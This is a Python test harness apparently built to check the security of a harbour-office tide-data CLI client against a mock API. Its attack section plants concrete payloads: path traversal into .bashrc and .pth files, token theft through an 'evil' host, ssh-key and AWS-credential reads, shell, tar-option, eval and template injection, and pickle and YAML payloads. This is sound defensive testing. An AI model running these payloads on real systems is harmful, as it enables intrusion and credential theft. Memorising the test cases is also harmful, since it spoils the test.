# SPDX-License-Identifier: Apache-2.0
"""tidelog, the command line of a harbour office (httpx, click)."""
import collections
import datetime
import hashlib
import http.server
import json
import os
import pickle
import random
import secrets
import urllib.parse

import attackers
import stage

Day = collections.namedtuple(
    "Day", "people stations month texts surveys incoming where")
DAYS = {
    1: Day(("ines", "rui.costa", "marta"),
           ("leixoes", "aveiro", "sines", "faro"), "2026-03",
           ("buoy", "pilot late", "fog"), ("dredging", "pilots"),
           ("gauge-0311.csv", "mooring plan.pdf", "quay7.jpg"),
           ("level > 2.5", "wind >= 12 and level < 3")),
    2: Day(("joao", "ana-lopes", "marta"),
           ("cascais", "lagos", "leixoes", "peniche"), "2026-04",
           ("crane", "rope", "no light", "fog"), ("insurance", "pilots"),
           ("gauge-0402.csv", "berth 12.jpg", "diver.pdf"),
           ("level < 1", "remark != ''", "datum_level > 4.2")),
    3: Day(("tiago", "ines", "bea.r"),
           ("sesimbra", "faro", "figueira", "aveiro"), "2026-05",
           ("anchor", "oil", "swell"), ("north-mole", "dredging"),
           ("gauge-0519.csv", "ladder 3.jpg", "chart.pdf"),
           ("wind > 20", "level >= 3.75")),
}
KINDS = {"tide": ("tide {}.csv",), "weather": ("wind-{}.pdf",),
         "photo": ("webcam_{}_0630.jpg", "webcam_{}_1830.jpg")}
REMARKS = ["", "", "surge", "estimated", "sensor cleaned"]
NOTICE = """Notice to mariners {{ made }}: {{ station }}
{% for reading in readings if reading.level > 3 %}
{{ reading.time }}: {{ reading.level }} m
{% endfor %}
"""
BULLETIN = "{{ station|upper }}: {{ readings|length }} tides from {{ first }}"
TABLES = {"__init__.py": '''"""Heights above the chart's datum."""

__version__ = "1.2.0"
DATUMS = {"leixoes": 0.08, "cascais": 0.05, "lagos": -0.02}


def above_datum(station, level):
    return round(level + DATUMS.get(station, 0) + 2, 2)
'''}
TABLES_NEW = {"__init__.py": '''"""Heights above the chart's datum."""
from tidetables.datums import load

__version__ = "1.3.0"


def above_datum(station, level):
    return round(level + load().get(station, 0) + 2, 2)
''', "datums.py": '''"""The gauges' heights, as surveyed."""
import functools
import json
import pathlib


@functools.lru_cache(maxsize=None)
def load():
    with open(pathlib.Path(__file__).with_name("datums.json")) as file:
        return json.load(file)
''', "datums.json": '{"leixoes": 0.09, "cascais": 0.05, "lagos": -0.02}\n'}


class Desk(http.server.BaseHTTPRequestHandler):
    """One client of the harbour's API."""
    protocol_version = "HTTP/1.1"
    timeout = 30

    def answer(self, body, status=200, etag=""):
        if not isinstance(body, bytes):
            body = json.dumps(body).encode()
        self.send_response(status)
        if etag:
            self.send_header("ETag", etag)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def kept(self, answer):
        """answer, unless the client has it."""
        body = json.dumps(answer).encode()
        etag = '"' + hashlib.md5(body).hexdigest() + '"'
        if self.headers.get("If-None-Match") == etag:
            self.send_response(304)
            self.end_headers()
        else:
            self.answer(body, etag=etag)

    def take(self):
        """Path, query and body of what is asked."""
        path, _, query = self.path.partition("?")
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.requests.append(
            (self.command, self.path, body, dict(self.headers.items())))
        return path, dict(urllib.parse.parse_qsl(query)), body

    def is_unwelcome(self, path):
        harbour = self.server
        if harbour.busy:
            harbour.busy -= 1
            self.answer({"error": "busy"}, 503)
            return True
        token = self.headers.get("Authorization", "").removeprefix("Bearer ")
        if path != "/api/login" and token not in harbour.tokens:
            self.answer({"error": "who are you?"}, 401)
            return True
        return False

    def do_GET(self):
        path, query, _ = self.take()
        if self.is_unwelcome(path):
            return
        harbour = self.server
        if path == "/api/me":
            token = self.headers["Authorization"].removeprefix("Bearer ")
            self.answer({"name": harbour.tokens[token]})
        elif query.get("station", "leixoes") not in harbour.stations:
            self.answer({"error": "no such station"}, 404)
        elif path == "/api/stations":
            self.kept({"items": [{"station": name, "name": name.title()}
                                 for name in harbour.stations]})
        elif path in ("/api/readings", "/api/notes", "/api/files"):
            self.kept(harbour.page(path, query))
        else:
            self.answer({"error": "no such thing"}, 404)

    def do_POST(self):
        path, _, body = self.take()
        if self.is_unwelcome(path):
            return
        if path == "/api/login":
            self.log_in(json.loads(body))
        elif path == "/api/uploads":
            self.answer({"ids": [self.server.number() for _ in range(
                body.count(b'filename="'))]})
        else:
            self.answer({})

    def log_in(self, form):
        if form["password"] != f"tide {form['user']}":
            self.answer({"error": "wrong"}, 401)
            return
        token = secrets.token_urlsafe(24)
        self.server.tokens[token] = form["user"]
        self.answer({"token": token, "name": form["user"], "hours": 12})

    def log_message(self, *_):
        pass


class Harbour(stage.Site):
    """The API; its files lie on another server."""

    def __init__(self, port, store):
        super().__init__(port)
        self.RequestHandlerClass = Desk
        self.store = store
        self.tokens = {}
        self.busy = 0
        self.last_number = 1000
        self.stations = sorted({station for day in DAYS.values()
                                for station in day.stations})
        self.planted = []  # files beside those of the stations
        self.next_page = None

    def number(self):
        self.last_number += 1
        return self.last_number

    def page(self, path, query):
        found = {"/api/readings": self.readings, "/api/notes": self.notes,
                 "/api/files": self.files}[path](query)
        size = int(query.get("per_page", 20))
        number = int(query.get("page", 1))
        is_last = number * size >= len(found)
        following = path + "?" + urllib.parse.urlencode(
            {**query, "page": number + 1})
        return {"items": found[(number - 1) * size:number * size],
                "next": self.next_page or (None if is_last else following)}

    @staticmethod
    def days(query):
        day, last = (datetime.date.fromisoformat(query[name])
                     for name in ("from", "to"))
        while day <= last:
            yield day
            day += datetime.timedelta(1)

    def readings(self, query):
        found = []
        for day in self.days(query):
            dice = random.Random(f"{query['station']} {day}")
            found += [{"time": f"{day}T{hour:02}:"
                               f"{dice.randrange(60):02}+00:00",
                       "station": query["station"],
                       "level": round(dice.uniform(0.3, 4.1), 2),
                       "wind": dice.randrange(30),
                       "remark": dice.choice(REMARKS)}
                      for hour in (2, 8, 14, 20)]
        return sorted(found, key=lambda one: one[query.get("sort", "time")])

    def notes(self, query):
        return [{"date": f"2026-0{1 + n % 9}-1{n % 7}",
                 "station": self.stations[n % len(self.stations)],
                 "note": f"{query['q']} seen at berth {n}"}
                for n in range(len(query["q"]) * 6)]

    def files(self, query):
        return [self.offer(query["station"], str(day), pattern.format(day))
                for day in self.days(query)
                for kind, patterns in KINDS.items() for pattern in patterns
                if query.get("kind", "") in ("", kind)] + self.planted

    def offer(self, station, date, name, content=None, url=None):
        """A file as it stands in a list; the store has it."""
        content = content or f"{station},{date},{name}\n".encode() * 60
        path = f"/store/{hashlib.sha1(content).hexdigest()}"
        self.store.page(path, content)
        return {"station": station, "date": date, "name": name,
                "sha256": hashlib.sha256(content).hexdigest(),
                "url": url or self.store.url + path}


class HttpxTidelog(stage.Program):
    """An HTTP client of a harbour office (httpx, click, asyncio)."""
    packages = ["python3-httpx", "python3-click", "python3-platformdirs",
                "python3-tenacity", "python3-rich", "python3-xlsxwriter",
                "python3-jinja2", "python3-yaml"]

    def arrange(self):
        self.office = self.srv / "office"
        self.config = self.home / ".config/tidelog"
        stage.write(self.config / "config.toml",
                    'profile = "duty"\njobs = 3\ntimeout = 8.0\n' + "".join(
                        f'{name} = "{self.office}/{name}"\n'
                        for name in ("downloads", "templates", "logs")))
        stage.write(self.config / "profiles/duty.toml",
                    f'url = "http://127.0.0.1:{self.port("api")}"\n'
                    'user = "duty"\n')
        stage.write(self.office / "templates/notice.j2", NOTICE)
        stage.write(self.office / "templates/bulletin.j2", BULLETIN)
        self.install("tidetables", "1.2.0", TABLES)

    def arrange_benign(self):
        self.install("tidetables", "1.3.0", TABLES_NEW)

    def start(self):
        """The harbour's API and that of its southern basin."""
        store = self.site("store")
        for name in ("api", "south"):
            self.sites[name] = Harbour(self.port(name), store)

    @property
    def api(self):
        return self.sites["api"]

    # ------------------------------------------------------------ what is done
    def tidelog(self, *words, text="", cwd=None):
        return self.run(self.python, self.srv / "bin/tidelog", *words,
                        text=text, cwd=cwd or self.office)

    def does(self, *words, status=0, found="", made=(), text="", cwd=None):
        self.expect_run(words, self.tidelog(*words, text=text, cwd=cwd),
                        status, found,
                        [f"office/{name}" for name in made])

    def logs_in(self, person="duty", **expected):
        self.does("-p", person, "login", "--password-stdin",
                  text=f"tide {person}\n",
                  **{"found": f"logged in as {person}", **expected})

    def joins(self, person, basin="api"):
        self.does("profile", "add", person, "--url",
                  self.sites[basin].url, "--user", person, found=person)
        self.logs_in(person)

    def incoming(self, name, content="0.4;1.9\n" * 40):
        return stage.write(self.office / "incoming" / name, content)

    def plan(self, name, *steps, **more):
        return stage.write(self.office / "batch" / name, json.dumps(
            {"steps": steps, **more}, indent=1))

    def train(self, day):
        plan = DAYS[day]
        self.logs_in()
        for number, person in enumerate(plan.people):
            self.joins(person, "south" if number == 1 else "api")
        self.reads(plan)
        self.fetches(plan)
        self.exports(plan)
        self.reports(plan)
        self.uploads(plan)
        self.runs_batches(plan)
        self.errs(plan)
        self.cleans_up(plan)

    def reads(self, plan):
        one, two, three, four = plan.stations
        ines, rui, marta = plan.people
        month = plan.month
        self.does("-p", ines, "whoami", found=ines)
        self.does("-p", rui, "whoami", found=rui)
        self.does("profile", "list", found=marta)
        self.does("stations", found=one)
        self.does("-p", rui, "stations", found=two)
        self.does("list", one, "--from", f"{month}-02", found="4 readings")
        self.does("list", two, "--from", f"{month}-01", "--to",
                  f"{month}-15", found="60 readings")
        self.does("-p", ines, "list", three, "--from", f"{month}-05", "--to",
                  f"{month}-09", "--per-page", 8, "--sort", "level")
        self.does("-p", rui, "list", four, "--from", f"{month}-11", "--to",
                  f"{month}-21", "--page", 2, "--reverse")
        self.does("-v", "list", one, "--from", f"{month}-02",
                  "--local-time", found="4 readings")
        for where in plan.where:
            self.does("-p", marta, "list", three, "--from", f"{month}-05",
                      "--to", f"{month}-19", "--where", where)
        for text in plan.texts:
            self.does("search", text, found=text)
        self.does("--no-cache", "-p", ines, "search", plan.texts[0],
                  "--limit", 7, found="7 notes")

    def fetches(self, plan):
        one, two, three, four = plan.stations
        ines, rui, marta = plan.people
        month = plan.month
        folder = f"downloads/{one}/{month.replace('-', '/')}"
        self.does("fetch", one, "--from", f"{month}-01", "--to",
                  f"{month}-03", found="fetched",
                  made=[f"{folder}/tide {month}-02.csv"])
        self.does("fetch", one, "--from", f"{month}-01", "--to",
                  f"{month}-04", found="there already")
        self.does("-p", ines, "fetch", two, three, "--from", f"{month}-07",
                  "--kind", "photo", "--jobs", 2, found="fetched")
        self.does("-p", rui, "-v", "fetch", four, "--from", f"{month}-09",
                  "--to", f"{month}-12", "-j", 8, "--into",
                  f"surveys/{plan.surveys[0]}", found="fetched")
        self.does("-p", marta, "fetch", two, "--from", f"{month}-14",
                  "--kind", "weather", "--into",
                  self.office / "surveys" / plan.surveys[1], found="fetched")
        self.does("fetch", three, "--from", f"{month}-16", "--to",
                  f"{month}-17", "--gzip", "--kind", "tide", found="fetched")
        self.does("-p", ines, "fetch", four, "--from", f"{month}-18",
                  "--gzip", found="fetched")
        self.does("fetch", one, "--from", f"{month}-02", "--force",
                  found="fetched")
        self.does("pack", one, month, "-o", f"archive/{one}-{month}.tar.gz",
                  made=[f"archive/{one}-{month}.tar.gz"])
        self.does("pack", two, month, "-o",
                  self.office / f"archive/{month[:4]}/{two} {month}.tgz")
        self.does("history", found=four)
        self.does("history", "--station", three, "--limit", 5, found=three)

    def exports(self, plan):
        one, two, three, four = plan.stations
        ines, rui, marta = plan.people
        month = plan.month
        for station, form in ((one, "csv"), (two, "json"), (three, "xlsx")):
            name = f"exports/{month}/{station}.{form}"
            self.does("export", station, "--from", f"{month}-01", "--to",
                      f"{month}-28", "-f", form, "-o", name,
                      found="112 readings", made=[name])
        self.does("-p", rui, "export", four, "--from", f"{month}-06", "-o",
                  self.office / f"exports/{four} on the 6th.csv")
        self.does("-p", ines, "export", one, "--from", f"{month}-10", "--to",
                  f"{month}-12", "-f", "xlsx", "-o", f"exports/for {rui}.xlsx",
                  "--where", plan.where[0])
        self.does("-p", marta, "export", two, "--from", f"{month}-20", "-f",
                  "json", "--local-time", "-o", f"exports/{marta}/{two}.json")

    def reports(self, plan):
        one, two, three, four = plan.stations
        month = plan.month
        self.does("report", "daily", one, "--from", f"{month}-04",
                  found=f"Tides at {one}")
        self.does("report", "monthly", two, "--from", f"{month}-01", "--to",
                  f"{month}-28", "-o", f"reports/{two} {month}.txt",
                  made=[f"reports/{two} {month}.txt"])
        self.does("-p", plan.people[0], "report", "monthly", three, "--from",
                  f"{month}-01", "--to", f"{month}-10", found="Highest")
        self.does("report", "notice", four, "--from", f"{month}-12", "--to",
                  f"{month}-14", "-o", f"reports/notices/{four}.txt")
        self.does("-p", plan.people[2], "report", "bulletin", one, "--from",
                  f"{month}-22", found=one.upper())

    def uploads(self, plan):
        ines, rui, _ = plan.people
        files = [self.incoming(name) for name in plan.incoming]
        self.does("upload", files[0], "--station", plan.stations[0],
                  found="1 files")
        self.does("-p", ines, "upload", *files[1:], "--station",
                  plan.stations[1], "--note", "from the launch",
                  found="2 files")
        self.does("-p", rui, "upload",
                  self.incoming(f"{rui}/{plan.month}.csv").relative_to(
                      self.office), "--station", plan.stations[2],
                  "--kind", "weather", found="1 files")

    def runs_batches(self, plan):
        one, two, three, _ = plan.stations
        month = plan.month
        self.does("batch", self.plan(
            "morning.yaml", "stations", f"list {one} --from {month}-24",
            f"fetch {two} --from {month}-24 --kind photo",
            f"export {three} --from {month}-24 -o exports/morning.csv"))
        self.does("-p", plan.people[0], "batch", self.plan(
            f"{plan.people[0]}-{month}.yaml",
            ["report", "daily", two, "--from", f"{month}-25"],
            f"search '{plan.texts[1]}'", "history --limit 3"))
        self.does("batch", self.plan(
            f"week {month}.yaml", f"fetch {three} --from {month}-25 --gzip",
            "list atlantis --from 2026-01-01",
            f"pack {three} {month} -o archive/{three}.tar.gz",
            stop_on_error=True), status=1, found="no such station")

    def errs(self, plan):
        one, two, _, _ = plan.stations
        month = plan.month
        self.does("-p", plan.people[0], "login", "--password-stdin",
                  text="1234\n", status=1, found="not logged in")
        self.does("-p", "nobody", "whoami", status=1, found="no profile")
        self.does("upload", "incoming/none.csv", "--station", one, status=2)
        self.api.busy = 2
        self.does("list", two, "--from", f"{month}-26", found="4 readings")
        self.api.busy = 4
        self.does("--retries", 5, "--timeout", 3.5, "stations", found=one)
        self.api.busy = 2
        self.does("--retries", 2, "whoami", status=1, found="does not answer")
        self.api.busy = 0
        self.api.planted = [self.api.offer(
            one, f"{month}-27", "lost.csv", url=self.api.store.url + "/gone")]
        self.does("fetch", one, "--from", f"{month}-27", status=1,
                  found="404")
        self.api.planted = []

    def cleans_up(self, plan):
        ines, rui, marta = plan.people
        self.does("cache", "info", found="answers")
        self.does("-p", marta, "logout", found="logged out")
        self.does("-p", marta, "whoami", status=1, found="not logged in")
        self.does("profile", "remove", marta)
        self.does("cache", "clear", found="removed")
        self.does("-q", "stations", found=plan.stations[0])
        self.does("-p", rui, "cache", "info", found="1 answers")
        self.does("-p", ines, "logout", found="logged out")

    def benign(self):
        for name in ("viana do castelo", "port-louis", "st.helier.2"):
            self.api.stations.append(name)
            self.sites["south"].stations.append(name)
        self.logs_in()
        self.joins("Ana Sofia da Costa")
        self.joins("o.neill-2", "south")
        self.reads_as_others()
        self.fetches_elsewhere()
        self.exports_elsewhere()
        self.uploads_others()
        self.runs_other_batches()
        self.errs_otherwise()

    def reads_as_others(self):
        ana, neill = "Ana Sofia da Costa", "o.neill-2"
        self.does("-p", ana, "whoami", found=ana)
        self.does("profile", "list", found=neill)
        self.does("-p", neill, "stations", found="st.helier.2")
        self.does("-p", ana, "list", "viana do castelo", "--from",
                  "2027-01-30", "--to", "2027-02-11", found="52 readings")
        self.does("-p", ana, "list", "viana do castelo", "--from",
                  "2027-01-30", "--to", "2027-02-11", found="52 readings")
        self.does("-p", neill, "list", "port-louis", "--from", "2025-12-31",
                  "--sort", "wind", "--per-page", 3, "--page", 1)
        self.does("list", "faro", "--from", "2024-02-29", "--where",
                  "level > 0.5 and station == 'faro' or wind in (3, 4)")
        self.does("search", "Não há luz", found="há")
        self.does("-p", neill, "search", "rope & crane?", "--limit", 3,
                  found="3 notes")

    def fetches_elsewhere(self):
        ana, neill = "Ana Sofia da Costa", "o.neill-2"
        api = self.api
        self.does("-p", ana, "fetch", "viana do castelo", "--from",
                  "2027-02-01", "--to", "2027-02-02", found="fetched",
                  made=["downloads/viana do castelo/2027/02/"
                        "tide 2027-02-01.csv"])
        api.planted = [
            api.offer("st.helier.2", "2026-11-05", name, os.urandom(9000))
            for name in ("basin.v2.geojson", "Relatório março.docx",
                         "raw 17.tar.xz", "README")]
        self.does("fetch", "st.helier.2", "--from", "2026-11-05", "-j", 16,
                  found="README",
                  made=["downloads/st.helier.2/2026/11/raw 17.tar.xz"])
        api.planted = []
        self.does("-p", neill, "fetch", "port-louis", "lagos", "--from",
                  "2025-12-31", "--into",
                  "surveys/north basin/2025.b/second visit",
                  found="fetched")
        self.does("fetch", "sines", "--from", "2026-08-08", "--gzip",
                  found="fetched",
                  made=["downloads/sines/2026/08/tide 2026-08-08.csv.gz"])
        self.does("pack", "viana do castelo", "2027-02", "-o",
                  "archive/2027/q1/viana do castelo.v2.tar.gz",
                  made=["archive/2027/q1/viana do castelo.v2.tar.gz"])
        self.does("history", "--station", "st.helier%", found="README")

    def exports_elsewhere(self):
        ana = "Ana Sofia da Costa"
        for form in ("csv", "json", "xlsx"):
            name = f"exports/2027/Q1/for the pilots/viana.v2.{form}"
            self.does("-p", ana, "export", "viana do castelo", "--from",
                      "2027-02-01", "--to", "2027-02-14", "-f", form, "-o",
                      name, found="56 readings", made=[name])
        self.does("export", "sines", "--from", "2026-09-09", "--no-header",
                  "-o", self.office / "exports/sines, 9 Sep.txt",
                  made=["exports/sines, 9 Sep.txt"])
        self.does("report", "daily", "port-louis", "--from", "2026-09-30",
                  "-o", "reports/2026/port-louis.today.txt")
        stage.write(self.office / "templates/regatta.j2", "Regatta at "
                    "{{ station }}: {{ readings|map(attribute='wind')|max }}")
        self.does("-p", ana, "report", "regatta", "lagos", "--from",
                  "2026-09-12", found="Regatta at lagos")

    def uploads_others(self):
        self.does("upload", self.incoming("night shift/été.v1.xlsx"),
                  self.incoming("sonar 4.tar.gz", os.urandom(300000)),
                  "--station", "port-louis", "--note", "two; more follow",
                  found="2 files")
        self.does("-p", "o.neill-2", "upload", self.incoming("x/y/z/LOG"),
                  "--station", "lagos", "--kind", "photo", found="1 files")

    def runs_other_batches(self):
        self.does("-p", "Ana Sofia da Costa", "batch", self.plan(
            "Ana's evening 2.yml", "list lagos --from 2026-10-10",
            "fetch lagos --from 2026-10-10 --kind tide",
            "report monthly lagos --from 2026-10-01 --to 2026-10-09 "
            "-o 'reports/ana/lagos 10.txt'"))
        self.does("batch", self.plan(
            "night.yaml", "whoami", "list atlantis --from 2026-01-01",
            "export peniche --from 2026-10-10 -f xlsx -o exports/night.xlsx"),
            status=1, found="1 steps failed", made=["exports/night.xlsx"])
        self.does("batch", stage.write(self.office / "batch/empty.yaml",
                                       "hello\n"), status=1, found="no steps")

    def errs_otherwise(self):
        self.does("-p", "o.neill-2", "login", "--password-stdin",
                  text="wrong again\n", status=1)
        self.does("list", "nowhere", "--from", "2026-01-01", status=1,
                  found="no such station")
        self.does("pack", "faro", "1999-01", "-o", "archive/x.tgz", status=1,
                  found="nothing of faro")
        self.does("report", "daily", "lagos", status=2, found="--from")
        self.api.busy = 3
        self.does("--retries", 6, "-p", "Ana Sofia da Costa", "stations",
                  found="port-louis")
        for entry in (self.home / ".cache/tidelog/duty").rglob("*.pickle"):
            entry.write_bytes(entry.read_bytes()[:40])
        self.does("stations", found="port-louis")
        self.api.tokens.clear()
        self.does("-p", "Ana Sofia da Costa", "whoami", status=1,
                  found="no longer")
        self.does("profile", "remove", "Ana Sofia da Costa")
        self.does("cache", "clear", found="removed")

    def health(self):
        self.api.planted, self.api.next_page = [], None
        self.logs_in()
        self.does("list", "leixoes", "--from", "2026-03-02",
                  found="4 readings")
        self.does("fetch", "leixoes", "--from", "2026-03-01", "--to",
                  "2026-03-03", "--force", found="fetched")

    # ----------------------------------------------------------------- attacks
    def told(self, *words):
        """What somebody sees who is logged in."""
        self.logs_in()
        return self.tidelog(*words)[1]

    def fetch_planted(self, *files, options=()):
        """The API lists files that are none of a station's."""
        self.api.planted = list(files)
        return self.told("fetch", "leixoes", "--from", "2026-03-01",
                         *options)

    def filter_with(self, expression):
        return self.told("list", "leixoes", "--from", "2026-03-02",
                         "--where", expression)

    def batch_of(self, code):
        """Somebody leaves a batch file."""
        return self.told("batch", stage.write(
            self.office / "batch/morning.yaml", attackers.in_yaml(code)))

    def poison_cache(self, code):
        self.told("stations")
        for entry in (self.home / ".cache/tidelog").rglob("*.pickle"):
            entry.write_bytes(pickle.dumps(attackers.Bomb(exec, code)))
        self.tidelog("stations")

    @stage.attack("write to start-up file")
    def file_name_leads_to_the_shell_profile(self):
        self.fetch_planted(self.api.offer(
            "leixoes", "2026-03-01", "../../../../../../home/.bashrc",
            b"echo planted\n"))
        return "planted" in (self.home / ".bashrc").read_text()

    @stage.attack("write to code")
    def station_and_date_lead_into_the_program(self):
        code = self.srv / "tidelog/exports.py"
        self.fetch_planted(self.api.offer(
            "../..", "tidelog-.", code.name,
            code.read_bytes() + b"# planted\n"))
        return "planted" in code.read_text()

    @stage.attack("traversal")
    def file_name_leads_to_the_packages_of_python(self):
        name = os.path.relpath(self.site_packages / "tides.pth",
                               self.office / "downloads/leixoes/2026/03")
        self.fetch_planted(self.api.offer(
            "leixoes", "2026-03-01", name, b"import antigravity\n"))
        return (self.site_packages / "tides.pth").exists()

    @stage.attack("exfiltration")
    def batch_uploads_a_key(self):
        self.told("batch", self.plan(
            "morning.yaml", "upload ../../home/.ssh/id_rsa --station sines"))
        return self.api.heard(self.secret)

    @stage.attack("exfiltration")
    def next_page_gets_the_token(self):
        evil = self.site("evil")
        evil.page("*", '{"items": [], "next": null}')
        self.api.next_page = evil.url + "/api/readings"
        self.told("list", "leixoes", "--from", "2026-03-02")
        return any(evil.heard(token) for token in self.api.tokens)

    @stage.attack("symlink swap")
    def file_to_upload_is_a_link(self):
        path = self.incoming("gauge-0311.csv")
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        self.told("upload", path, "--station", "leixoes")
        return self.api.heard(self.secret)

    @stage.attack("symlink swap")
    def month_is_a_link(self):
        """To where the shell looks for keys."""
        folder = self.office / "downloads/leixoes/2026"
        folder.mkdir(parents=True)
        (folder / "04").symlink_to(self.home / ".ssh")
        self.fetch_planted(self.api.offer(
            "leixoes", "2026-04-16", "authorized_keys", b"ssh-rsa planted\n"))
        return (self.home / ".ssh/authorized_keys").exists()

    @stage.attack("SSRF")
    def next_page_is_inside(self):
        def use(url):
            self.api.next_page = url
            return self.told("list", "leixoes", "--from", "2026-03-02")
        return self.fetches_inside(use)

    @stage.attack("SSRF")
    def store_sends_on_inside(self):
        def use(url):
            self.fetch_planted(self.api.offer(
                "leixoes", "2026-03-01", "got.csv", url=url))
            got = self.office / "downloads/leixoes/2026/03/got.csv"
            return got.read_text() if got.exists() else ""
        return self.is_redirected_inside("store", use)

    @stage.attack("command injection")
    def file_name_is_a_command(self):
        return self.runs_line(lambda line: self.fetch_planted(
            self.api.offer("leixoes", "2026-03-01", f"a';{line};'.csv"),
            options=["--gzip"]))

    @stage.attack("argument injection")
    def file_names_are_options_of_tar(self):
        marker = self.marker("tar")
        contents = {"--checkpoint=1": None, "run.sh": f"id > {marker}\n",
                    "--checkpoint-action=exec=sh run.sh": None}
        self.fetch_planted(*(
            self.api.offer("leixoes", "2026-03-01", name,
                           content and content.encode())
            for name, content in contents.items()))
        self.tidelog("pack", "leixoes", "2026-03", "-o", "archive/x.tar.gz")
        return marker.exists()

    @stage.attack("eval injection")
    def filter_runs_a_command(self):
        return self.runs_line(lambda line: self.filter_with(
            f"__import__('os').system('{line}')"))

    @stage.attack("secret disclosure")
    def filter_prints_a_key(self):
        key = self.home / ".ssh/id_rsa"
        return self.is_told(self.filter_with(
            f"print(open({str(key)!r}).read())"))

    @stage.attack("ctypes")
    def filter_calls_libc(self):
        return self.runs_libc(self.filter_with)

    @stage.attack("template injection")
    def template_reads_credentials(self):
        stage.write(self.office / "templates/notice.j2",
                    "{{ cycler.__init__.__globals__.__builtins__.open("
                    f"'{self.home}/.aws/credentials').read() }}}}")
        return self.is_told(self.told("report", "notice", "leixoes",
                                      "--from", "2026-03-02"))

    @stage.attack("unsafe yaml")
    def batch_file_calls_home(self):
        return self.calls_home(self.batch_of)

    @stage.attack("unsafe pickle")
    def kept_answer_forks_and_execs(self):
        return self.forks(self.poison_cache)

    @stage.attack("malicious dependency")
    def tables_steal_credentials(self):
        return self.dependency_steals(
            "tidetables", "1.2.1", TABLES,
            lambda: self.told("list", "leixoes", "--from", "2026-03-02"))
